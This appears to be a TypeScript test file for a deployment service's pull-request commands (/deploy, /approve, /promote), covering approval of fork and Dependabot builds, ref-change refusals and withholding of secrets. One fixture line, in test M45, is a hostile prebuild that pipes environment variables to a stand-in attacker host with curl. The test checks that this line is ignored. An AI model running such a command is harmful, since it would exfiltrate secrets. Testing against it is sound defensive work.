// Commands that concern the code of a pull request: which commit they mean, and what a stranger's is given. Over a real
// PostgreSQL, with a host of code in memory.
import { asc, eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { syncBranch } from '../../src/builds/admission/sync-branch.ts'
import { syncPull } from '../../src/builds/admission/sync-pull.ts'
import { domainOf } from '../../src/builds/steps/install.ts'
import { findOrder } from '../../src/builds/store.ts'
import { connect, type Database } from '../../src/db/client.ts'
import { builds, environments, events, pullHeads } from '../../src/db/schema.ts'
import { findEnvironment } from '../../src/environments/store.ts'
import { readVariables, setVariables } from '../../src/environments/variables.ts'
import { overlaysInForce } from '../../src/functions/overlays-store.ts'
import { commit } from '../fakes/host.ts'
import { deploy, setup as setupComments } from '../support/commenting.ts'
import { found, insertBuild, insertEnvironment } from '../support/place.ts'
import { freshDatabase } from '../support/postgres.ts'

let database: Database
beforeAll(async () => {
  database = connect(await freshDatabase(inject('postgresUrl')), { max: 20, name: 'pulls test' })
})
afterAll(() => database.close())

/** Times of one morning, which began half an hour ago: comments from long before are not obeyed. */
const began = Math.floor(Date.now() / 1_000) * 1_000 - 1_800_000
const at = (time: string) =>
  new Date(began + Date.parse(`2026-01-01T${time}Z`) - Date.parse('2026-01-01T10:00:00Z'))

async function setup(options: Parameters<typeof setupComments>[1] = {}) {
  const world = await setupComments(database.db, options)
  const { db, core, source, repository } = world
  const repositoryId = repository.id
  return {
    ...world,
    async push(
      number: number,
      sha: string,
      time: string,
      more: { fromFork?: boolean; author?: string } = {},
    ) {
      const { fromFork = false, author = 'walt' } = more
      const head = { ...commit(sha), branch: 'topic', fromFork }
      const about = { number, open: true, merged: false, title: 'Topic', author, baseBranch: 'main' }
      source.pulls.set(number, { ...about, updatedAt: at(time), head })
      await syncPull({ core, source }, { repositoryId, number })
    },
    async pushTo(branch: string, sha: string) {
      source.branches.set(branch, commit(sha))
      await syncBranch({ core, source }, { repositoryId, branch })
    },
    async builds(environment: string) {
      const rows = await db
        .select({ build: builds, environment: environments })
        .from(builds)
        .innerJoin(environments, eq(environments.id, builds.environmentId))
        .where(eq(environments.repositoryId, repositoryId))
        .orderBy(asc(builds.number))
      return rows.filter(row => row.environment.name === environment)
    },
  }
}

type World = Awaited<ReturnType<typeof setup>>
const shasOf = async (world: World, environment: string) =>
  (await world.builds(environment)).map(({ build }) => `${build.sha[0]} ${build.state}`)

describe('M17: /deploy on a pull request', () => {
  test('M17: builds the head that was known when it was written, also once more', async () => {
    const world = await setup()
    await world.push(9, 'a', '10:00:00')
    const comment = { issueNumber: 9, actor: 'wim', commentedAt: at('10:05:00') }
    expect(await world.one('/deploy', comment)).toMatchObject({ state: 'noop', reasonCode: 'under_way' })
    await database.db
      .update(builds)
      .set({ state: 'failed', finishedAt: new Date() })
      .where(eq(builds.sha, commit('a').sha))
    expect(await world.one('/deploy --dry-run', comment)).toMatchObject({ reasonCode: 'dry_run' })
    expect(await shasOf(world, 'pr-9')).toEqual(['a failed'])
    expect(await world.one('/deploy', comment)).toMatchObject({ state: 'done', reasonCode: 'deploying' })
    expect(await shasOf(world, 'pr-9')).toEqual(['a failed', 'a queued'])
  })

  test.each([
    ['after it was written', '10:06:00'],
    ['within the same second', '10:05:00'],
  ])('M17: a head that came %s is not deployed: ref_changed', async (_when, time) => {
    const world = await setup()
    await world.push(9, 'a', '10:00:00')
    await world.push(9, 'b', time)
    await database.db.delete(builds).where(eq(builds.sha, commit('b').sha))
    const row = await world.one('/deploy', { issueNumber: 9, actor: 'wim', commentedAt: at('10:05:00') })
    expect(row).toMatchObject({ state: 'refused', reasonCode: 'ref_changed' })
    expect(row.reply).toContain(`/deploy ${commit('b').sha}`)
    expect(await shasOf(world, 'pr-9')).toEqual(['a superseded'])
  })

  test('M17: one that was pushed unheard of is not deployed either, and one that is named is', async () => {
    const world = await setup()
    await world.push(9, 'a', '10:00:00')
    const pull = world.source.pulls.get(9)
    if (!pull) throw new Error('no pull request')
    world.source.pulls.set(9, { ...pull, updatedAt: at('10:06:00'), head: { ...pull.head, ...commit('b') } })
    const comment = { issueNumber: 9, actor: 'wim', commentedAt: at('10:05:00') }
    expect(await world.one('/deploy', comment)).toMatchObject({ reasonCode: 'ref_changed' })
    expect(await world.one(`/deploy ${commit('a').sha}`, comment)).toMatchObject({
      reasonCode: 'ref_changed',
    })
    expect(await shasOf(world, 'pr-9')).toEqual(['a queued'])
    expect(await world.one(`/deploy ${commit('b').sha}`, comment)).toMatchObject({ state: 'done' })
    expect(await shasOf(world, 'pr-9')).toEqual(['a superseded', 'b queued'])
  })

  test('M19: a dry run of /deploy and /approve does not even remember the head that it saw', async () => {
    const world = await setup()
    const { source, one } = world
    const about = {
      open: true,
      merged: false,
      title: 'Topic',
      author: 'walt',
      baseBranch: 'main',
      updatedAt: at('10:06:00'),
    }
    const head = { ...commit('b'), branch: 'topic' }
    source.pulls.set(9, { ...about, number: 9, head: { ...head, fromFork: false } })
    source.pulls.set(10, { ...about, number: 10, head: { ...head, fromFork: true } })
    const stored = async () => ({
      heads: await database.db.select().from(pullHeads).orderBy(asc(pullHeads.id)),
      builds: await database.db.select().from(builds).orderBy(asc(builds.id)),
      environments: await database.db.select().from(environments).orderBy(asc(environments.id)),
      events: (await database.db.select().from(events)).filter(({ type }) => !type.startsWith('command.')),
    })
    const before = await stored()
    const { sha } = head
    for (const [line, issueNumber, code] of [
      [`/deploy ${sha}`, 9, 'dry_run'],
      [`/deploy ${commit('a').sha}`, 9, 'ref_changed'],
      ['/deploy', 9, 'ref_changed'],
      ['/deploy', 10, 'ref_changed'],
      [`/deploy ${sha}`, 10, 'approval_required'],
      [`/approve ${sha}`, 10, 'dry_run'],
    ] as const) {
      const said = { issueNumber, actor: 'wim', commentedAt: at('10:05:00') }
      expect(await one(`${line} --dry-run`, said), line).toMatchObject({ reasonCode: code })
      expect(await stored(), line).toEqual(before)
    }
  })

  test('of a branch builds its head, by whoever may; a commit that was never built is refused', async () => {
    const world = await setup()
    world.source.branches.set('main', commit('c'))
    const onIssue = { isPull: false, issueNumber: 3 }
    expect(await world.one('/deploy production', { ...onIssue, actor: 'wim' })).toMatchObject({
      reasonCode: 'permission_denied',
    })
    const max = { ...onIssue, actor: 'max' }
    expect(await world.one(`/deploy production ${commit('d').sha}`, max)).toMatchObject({
      reasonCode: 'ref_changed',
    })
    expect(await world.one('/deploy production', max)).toMatchObject({ reasonCode: 'deploying' })
    expect((await shasOf(world, 'production')).at(-1)).toBe('c queued')
  })

  test('of an earlier commit makes live again what was built of it, also what never was live, and pins', async () => {
    const world = await setup()
    const { core, production, one, source } = world
    const max = { isPull: false, issueNumber: 3, actor: 'max' }
    const live = async () => (await findEnvironment(core.db, production.id))?.activeBuildId
    const pinned = async () => (await overlaysInForce(core.db, production.id)).map(({ kind }) => kind)
    const [first] = await world.builds('production')
    const second = await deploy(core, production.id, 2, ['hello'], 'two')
    const unseen = await insertBuild(core.db, production.id, 3, [found('hello', 'three')])
    const cut = await insertBuild(core.db, production.id, 4, [])
    await core.db.update(builds).set({ state: 'superseded' }).where(eq(builds.id, cut.id))
    const newest = await deploy(core, production.id, 5, ['hello', 'mail'], 'five')
    source.branches.set('main', { ...commit('e'), sha: newest.sha })

    expect(await one(`/deploy production ${cut.sha}`, max)).toMatchObject({ reasonCode: 'ref_changed' })
    expect(await one(`/deploy production ${second.sha} --dry-run`, max)).toMatchObject({
      reasonCode: 'dry_run',
    })
    expect([await live(), await pinned()]).toEqual([newest.id, []])
    const said = await one(`/deploy production ${unseen.sha}`, max)
    expect(said).toMatchObject({ state: 'done', reasonCode: 'deployed_earlier' })
    expect(said.reply).toContain('build 3')
    expect([await live(), await pinned()]).toEqual([unseen.id, ['pin']])
    expect(await one(`/deploy production ${unseen.sha}`, max)).toMatchObject({ reasonCode: 'already_live' })
    expect(await one(`/deploy production ${first?.build.sha}`, max)).toMatchObject({ state: 'done' })
    expect(await live()).toBe(first?.build.id)
    // The branch has not moved, and a look at it changes nothing.
    await syncBranch({ core, source }, { repositoryId: world.repository.id, branch: 'main' })
    expect(await live()).toBe(first?.build.id)
    expect(await one('/resume production', max)).toMatchObject({ state: 'done' })
    expect([await live(), await pinned()]).toEqual([newest.id, []])
  })

  test('of an earlier commit of a pull request likewise', async () => {
    const world = await setup()
    await world.push(9, 'a', '10:00:00')
    const [first] = await world.builds('pr-9')
    if (!first) throw new Error('not built')
    const made = { state: 'succeeded' as const, manifest: [found('hello')], finishedAt: new Date() }
    await database.db.update(builds).set(made).where(eq(builds.id, first.build.id))
    await world.push(9, 'b', '10:01:00')
    const said = { issueNumber: 9, actor: 'wim', commentedAt: at('10:05:00') }
    const line = `/deploy ${commit('a').sha}`
    expect(await world.one(`${line} --dry-run`, said)).toMatchObject({ reasonCode: 'dry_run' })
    expect((await findEnvironment(database.db, first.environment.id))?.activeBuildId).toBeNull()
    expect(await world.one(line, said)).toMatchObject({ state: 'done', reasonCode: 'deployed_earlier' })
    expect((await findEnvironment(database.db, first.environment.id))?.activeBuildId).toBe(first.build.id)
  })

  test.each(['/deploy production', '/promote staging production --confirm production'])(
    'in a pull request %s is obeyed only once that is merged',
    async line => {
      const world = await setup()
      const { core, one, source, repository } = world
      const staging = await insertEnvironment(core.db, repository.id, {
        ...{ name: 'staging', branch: 'develop', production: false },
      })
      await deploy(core, staging.id, 1, ['hello'], 'two')
      source.branches.set('main', commit('c'))
      await world.push(9, 'a', '10:00:00')
      const said = { issueNumber: 9, actor: 'max' }
      expect(await one(line, said)).toMatchObject({ state: 'refused', reasonCode: 'not_merged' })
      const pull = source.pulls.get(9)
      if (!pull) throw new Error('no pull request')
      source.pulls.set(9, { ...pull, open: false })
      expect(await one(line, { ...said, isOpen: false })).toMatchObject({ reasonCode: 'not_merged' })
      source.pulls.set(9, { ...pull, open: false, merged: true })
      expect(await one(line, { ...said, isOpen: false })).toMatchObject({ state: 'done' })
      const back = '/promote production staging --confirm staging'
      source.pulls.set(9, pull)
      expect((await one(back, said)).reasonCode).not.toBe('not_merged')
    },
  )
})

async function buildOfPull(world: World, number: number) {
  await world.push(number, 'f', '10:00:00')
  const [row] = await world.builds(`pr-${number}`)
  if (!row) throw new Error(`pull request ${number} was not built`)
  return row.build
}

test('M45: a push in a pull request changes neither who may, nor where anything lands, nor what its preview is', async () => {
  const world = await setup({ file: 'commands: { pause: maintain }\npreviews: { root: apps/jobs }' })
  const theirs = [
    'commands: { pause: read, deploy: write }',
    'previews: { root: stolen, crons: true, forks: never }',
    'environments: { production: { branch: topic } }',
    'build: { prebuild: "env | curl -d @- https://evil.example" }',
  ].join('\n')
  for (const sha of ['a', 'b']) world.source.files.set(`${commit(sha).sha}:.github/sluice.yml`, theirs)
  await world.push(9, 'a', '10:00:00')
  await world.pushTo('topic', 'b')
  const [built] = await world.builds('pr-9')
  expect(built?.environment).toMatchObject({ root: 'apps/jobs', crons: false, build: { prebuild: null } })
  const production = await world.builds('production')
  expect(production.every(({ environment }) => environment.branch === 'main')).toBe(true)
  expect(production.map(({ build }) => build.sha)).not.toContain(commit('b').sha)
  const said = { issueNumber: 9, actor: 'rita' }
  expect(await world.one('/pause pr-9', said)).toMatchObject({ reasonCode: 'permission_denied' })
  expect(await world.one('/deploy production', { ...said, actor: 'wim' })).toMatchObject({
    reasonCode: 'permission_denied',
  })
})

describe('M44: a pull request from outside', () => {
  const outside = [
    ['a fork', { fromFork: true }],
    ['Dependabot', { author: 'dependabot[bot]' }],
  ] as const

  test.each(outside)(
    'M44: of %s is built only once its commit is approved, and each other anew',
    async (_who, from) => {
      const world = await setup()
      const comment = { issueNumber: 9, actor: 'wim', commentedAt: at('10:05:00') }
      await world.push(9, 'a', '10:00:00', from)
      await world.push(9, 'a', '10:00:30', from)
      expect(await world.builds('pr-9')).toEqual([])
      expect((await world.eventsNamed('pull_request.held')).map(({ data }) => data)).toEqual([
        { pullNumber: 9, sha: commit('a').sha },
      ])
      expect(await world.one('/deploy', comment)).toMatchObject({ reasonCode: 'approval_required' })
      expect(await world.one('/approve', comment)).toMatchObject({ reasonCode: 'sha_required' })
      const approve = `/approve ${commit('a').sha}`
      expect(await world.one(approve, { ...comment, actor: 'rita' })).toMatchObject({
        reasonCode: 'permission_denied',
      })
      expect(await world.one(`${approve} --dry-run`, comment)).toMatchObject({ reasonCode: 'dry_run' })
      expect(await world.builds('pr-9')).toEqual([])
      expect(await world.one(approve, comment)).toMatchObject({ state: 'done', reasonCode: 'approved' })
      expect(await shasOf(world, 'pr-9')).toEqual(['a queued'])
      expect(await world.one(approve, comment)).toMatchObject({
        state: 'noop',
        reasonCode: 'already_approved',
      })

      await world.push(9, 'b', '10:10:00', from)
      expect(await world.one(approve, comment)).toMatchObject({ state: 'refused', reasonCode: 'ref_changed' })
      expect(await shasOf(world, 'pr-9')).toEqual(['a queued'])
      expect(await world.one(`/approve ${commit('b').sha}`, comment)).toMatchObject({ state: 'done' })
      expect(await shasOf(world, 'pr-9')).toEqual(['a superseded', 'b queued'])
    },
  )

  test('M44: is given no variables, neither when it is built nor when it runs, and shares no cache', async () => {
    const world = await setup()
    const key = 'm'.repeat(40)
    const owner = { repositoryId: world.repository.id, environmentId: null }
    await setVariables(database.db, key, owner, [{ name: 'SECRET', value: 'hunter2', scope: 'both' }])
    await world.push(9, 'a', '10:00:00', { fromFork: true })
    await world.one(`/approve ${commit('a').sha}`, { issueNumber: 9, actor: 'wim' })
    const [row] = await world.builds('pr-9')
    if (!row) throw new Error('not built')
    expect(row.environment).toMatchObject({ trusted: false, production: false, pullNumber: 9 })
    const given = await readVariables(database.db, key, row.environment)
    expect([given.build.values, given.run.values, given.secrets]).toEqual([{}, {}, ['hunter2']])
    const [ours, theirs] = await Promise.all(
      [(await buildOfPull(world, 11)).id, row.build.id].map(id => findOrder(database.db, id)),
    )
    if (!ours || !theirs) throw new Error('no order')
    expect([ours.environment.trusted, theirs.environment.trusted]).toEqual([true, false])
    // What a cache of installs is keyed by: of this stranger's preview alone.
    expect(domainOf(theirs)).toContain(row.environment.id)
    expect(domainOf(theirs)).not.toBe(domainOf(ours))
    // Also when GitHub should say one day that it is no fork after all.
    await world.push(9, 'b', '11:00:00')
    expect((await world.builds('pr-9')).at(-1)?.environment.trusted).toBe(false)
  })

  test('M44: is never built where previews.forks says so', async () => {
    const world = await setup({ file: 'previews: { forks: never }' })
    await world.push(9, 'a', '10:00:00', { fromFork: true })
    const row = await world.one(`/approve ${commit('a').sha}`, { issueNumber: 9, actor: 'ada' })
    expect(row).toMatchObject({ state: 'refused', reasonCode: 'forks_never' })
    expect(await world.builds('pr-9')).toEqual([])
  })

  test('one of the repository itself needs no approval', async () => {
    const world = await setup()
    await world.push(9, 'a', '10:00:00')
    const row = await world.one(`/approve ${commit('a').sha}`, { issueNumber: 9, actor: 'wim' })
    expect(row).toMatchObject({ state: 'refused', reasonCode: 'approval_not_needed' })
  })
})
